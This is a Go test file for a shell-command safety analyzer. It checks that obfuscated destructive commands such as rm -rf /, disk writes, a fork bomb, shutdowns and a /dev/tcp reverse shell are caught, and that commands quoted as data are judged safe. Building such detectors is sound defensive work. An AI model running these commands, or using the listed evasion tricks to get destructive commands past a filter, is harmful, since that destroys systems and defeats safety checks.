package shell

import (
	"slices"
	"strings"
	"testing"
)

func TestAnalyzeTricks(t *testing.T) {
	tests := []struct {
		name, src string
		verdict   Verdict
		class     string
	}{
		{"line continuation in name", "r\\\nm -rf /", Hardline, "delete.root"},
		{"ansi escape inside name", "r\x1b[0mm -rf /", Hardline, "delete.root"},
		{"osc escape hides a separator", "\x1b]0;title\x07rm -rf /", Malformed, ""},
		{"nul byte", "r\x00m -rf /", Malformed, ""},
		{"zero width space", "r\u200bm -rf /", Hardline, "delete.root"},
		{"fullwidth", "ｒｍ －ｒｆ ／", Hardline, "delete.root"},
		{"carriage return", "ls\r\nrm -rf /\r\n", Hardline, "delete.root"},
		{"ifs braces", "rm${IFS}-rf${IFS}/", Hardline, "delete.root"},
		{"brace expansion", "{rm,-rf,/}", Hardline, "delete.root"},
		{"ansi-c quoting", `$'\162\155' -rf /`, Hardline, "delete.root"},
		{"quoted empty pairs", `r''m -rf '/'`, Hardline, "delete.root"},
		{"flags after operands", "rm / -rf", Hardline, "delete.root"},
		{"no preserve root", "rm -r --no-preserve-root /", Hardline, "delete.root"},
		{"dot slash root", "rm -rf /./", Hardline, "delete.root"},
		{"parent of system dir", "rm -rf /usr/..", Hardline, "delete.root"},
		{"glob system dir", "rm -rf /[e]tc", Hardline, "delete.system_dir"},
		{"path to binary", "/bin/rm -rf /etc/*", Hardline, "delete.system_dir"},
		{"relative path binary", "../../usr/bin/dd of=/dev/sda if=x", Hardline, "disk.write_device"},
		{"device via traversal", "dd if=x of=/tmp/../dev/nvme0n1", Hardline, "disk.write_device"},
		{"substitution in double quotes", `echo "$(reboot)"`, Hardline, "sys.shutdown"},
		{"backticks", "echo `halt`", Hardline, "sys.shutdown"},
		{"param default substitution", `echo ${x:-$(poweroff)}`, Hardline, "sys.shutdown"},
		{"heredoc substitution", "cat <<EOF\n$(rm -rf ~)\nEOF", Hardline, "delete.home"},
		{"quoted heredoc is data", "cat <<'EOF'\n$(rm -rf ~)\nEOF", Safe, ""},
		{"function invoked", "f() { rm -rf /; }; f", Hardline, "delete.root"},
		{"function not invoked", "f() { rm -rf /; }", Safe, ""},
		{"renamed fork bomb", "x(){ x|x& };x", Hardline, "proc.fork_bomb"},
		{"nested payloads", `sh -c "bash -c 'eval reboot'"`, Hardline, "sys.shutdown"},
		{"env split string", `env -S "sh -c 'rm -rf ~'"`, Hardline, "delete.home"},
		{"xargs sh -c", `xargs -I{} sh -c 'rm -rf /'`, Hardline, "delete.root"},
		{"command lookup", "command -v reboot", Safe, ""},
		{"command exec", "command reboot", Hardline, "sys.shutdown"},
		{"busybox applet", "busybox rm -rf /", Hardline, "delete.root"},
		{"watch payload", "watch -n 1 'rm -rf /'", Hardline, "delete.root"},
		{"su -c", "su -c 'mkfs.ext4 /dev/sda1' root", Hardline, "disk.format"},
		{"ssh remote", "ssh host 'rm -rf /'", Hardline, "delete.root"},
		{"dynamic name with a hardline shape", `$X -rf /`, Hardline, "delete.root"},
		{"dynamic name", `$X foo`, Dangerous, "exec.dynamic"},
		{"indirect name", `${!v} foo`, Dangerous, "exec.dynamic"},
		{"quoted data", `git commit -m "rm -rf /; reboot"`, Safe, ""},
		{"grep pattern", `grep -rn 'shutdown -h now' docs/`, Safe, ""},
		{"dev null", "make 2>/dev/null >/dev/stdout", Safe, ""},
		{"echo to tcp", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", Dangerous, "net.reverse_shell"},
		{"sysrq", "echo b > /proc/sysrq-trigger", Hardline, "sys.shutdown"},
		{"alias body", "alias ll='rm -rf ~'", Hardline, "delete.home"},
		{"less open", "LESSOPEN='|rm -rf /tmp/x %s' less f", Dangerous, "exec.program_option"},
		{"powershell encoded", "powershell -enc SQBFAFgA", Dangerous, "win.encoded_command"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := Analyze(tt.src)
			if a.Verdict != tt.verdict {
				t.Fatalf("verdict %s (%v %s), want %s", a.Verdict, a.Classes(), a.Error, tt.verdict)
			}
			if tt.class != "" && !slices.Contains(a.Classes(), tt.class) {
				t.Fatalf("classes %v lack %s", a.Classes(), tt.class)
			}
		})
	}
}

func TestAnalyzeCaps(t *testing.T) {
	tests := []struct {
		name string
		src  string
		opts Options
	}{
		{"input size", strings.Repeat("a", 300<<10), Options{}},
		{"payload depth", strings.Repeat("eval ", 40) + "ls", Options{}},
		{"command count", strings.Repeat("ls;", 50), Options{MaxCommands: 10}},
		{"syntax nesting", strings.Repeat("( ", 400) + "ls" + strings.Repeat(" )", 400), Options{}},
		{"unbalanced quote", `echo "abc`, Options{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := tt.opts.Analyze(tt.src)
			if a.Verdict != Malformed || a.Error == "" {
				t.Fatalf("verdict %s %q, want malformed with a reason", a.Verdict, a.Error)
			}
		})
	}
}

func TestProjections(t *testing.T) {
	a := Analyze(`/usr/bin/sudo   -n  id && bash -c 'git  push -f'`)
	got := a.Projections()
	for _, want := range []string{"sudo -n id", "/usr/bin/sudo -n id", "git push -f"} {
		if !slices.Contains(got, want) {
			t.Errorf("projections %q lack %q", got, want)
		}
	}
}
